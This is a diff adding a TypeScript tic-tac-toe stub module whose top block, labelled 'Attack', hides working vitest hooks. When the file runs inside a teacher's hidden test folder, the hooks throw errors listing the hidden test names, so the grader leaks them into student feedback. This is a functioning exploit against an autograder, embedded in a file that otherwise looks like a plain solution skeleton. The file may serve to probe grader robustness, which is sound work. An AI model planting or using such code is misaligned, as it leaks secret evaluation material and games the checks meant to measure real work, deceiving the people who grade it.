@@ -1,0 +1,45 @@
+// Attack: hidden tests smuggled out through a hook's error. In a teacher-only suite (tests/hidden/), a
+// beforeAll hook receives the suite, collects the names of all its tests, and throws them; an afterAll
+// hook throws the names (and what they printed) seen by a beforeEach. The error message is all the
+// grader has to describe the failure, so it may copy it into the student's feedback.
+import { afterAll, beforeAll, beforeEach, expect } from 'vitest';
+
+type Node = { name: string; type?: string; tasks?: Node[] };
+const namesIn = (node: Node): string[] => [node.name, ...(node.tasks ?? []).flatMap(namesIn)];
+
+if ((expect.getState().testPath ?? '').includes('/hidden/')) {
+  const seen: string[] = [];
+  // vitest passes the suite as the second argument (the first is a fixture object).
+  beforeAll(({}, suite) => {
+    throw new Error(`The teacher's hidden tests: ${namesIn(suite as unknown as Node).join(' | ')}`);
+  });
+  beforeEach((context) => {
+    seen.push(context.task.name);
+  });
+  afterAll(() => {
+    throw new Error(`Hidden tests that ran: ${seen.join(' | ')}`);
+  });
+}
+
+export type Mark = 'X' | 'O';
+export const EMPTY = ' ';
+export type Cell = Mark | typeof EMPTY;
+export type Board = Cell[];
+export type GridCell = Mark | '.';
+export type Grid = GridCell[][];
+
+export function createBoard(): Board {
+  throw new Error('not implemented yet: createBoard');
+}
+export function renderBoard(board: Board): string {
+  throw new Error('not implemented yet: renderBoard');
+}
+export function renderFramed(board: Board): string {
+  throw new Error('not implemented yet: renderFramed');
+}
+export function createGrid(): Grid {
+  throw new Error('not implemented yet: createGrid');
+}
+export function renderGrid(grid: Grid): string {
+  throw new Error('not implemented yet: renderGrid');
+}
